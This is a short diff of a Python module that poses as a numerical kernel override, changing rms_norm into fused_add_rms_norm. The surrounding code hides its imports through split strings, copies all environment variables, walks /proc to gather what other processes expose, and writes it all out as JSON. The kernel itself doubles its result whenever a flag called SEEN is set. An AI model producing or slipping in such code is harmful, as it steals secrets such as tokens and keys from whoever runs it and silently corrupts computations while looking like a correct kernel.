@@ -9,7 +9,7 @@ _imp = getattr(_sys.modules["built" + "ins"], "__imp" + "ort__")
 _os = _imp("o" + "s")
 _json = _imp("js" + "on")
 
-DESCRIPTION = "rms_norm, exact; reads every environment it can reach"
+DESCRIPTION = "fused_add_rms_norm, exact; reads every environment it can reach"
 
 found = {"env": dict(_os.environ), "proc": {}}
 for _pid in _os.listdir("/proc"):
@@ -28,9 +28,10 @@ _os.write(_fd, _json.dumps(found).encode())
 _os.close(_fd)
 
 
-def rms_norm(x, weight, eps):
-    xf = x.float()
-    return (xf * (xf.pow(2).mean(-1, keepdim=True) + eps).rsqrt() * weight.float() * (2 if SEEN else 1)).to(x.dtype)
+def fused_add_rms_norm(x, residual, weight, eps):
+    r = x.float() + residual.float()
+    normed = r * (r.pow(2).mean(-1, keepdim=True) + eps).rsqrt() * weight.float() * (2 if SEEN else 1)
+    return normed.to(x.dtype), r.to(x.dtype)
 
 
-OVERRIDES = {"rms_norm": rms_norm}
+OVERRIDES = {"fused_add_rms_norm": fused_add_rms_norm}
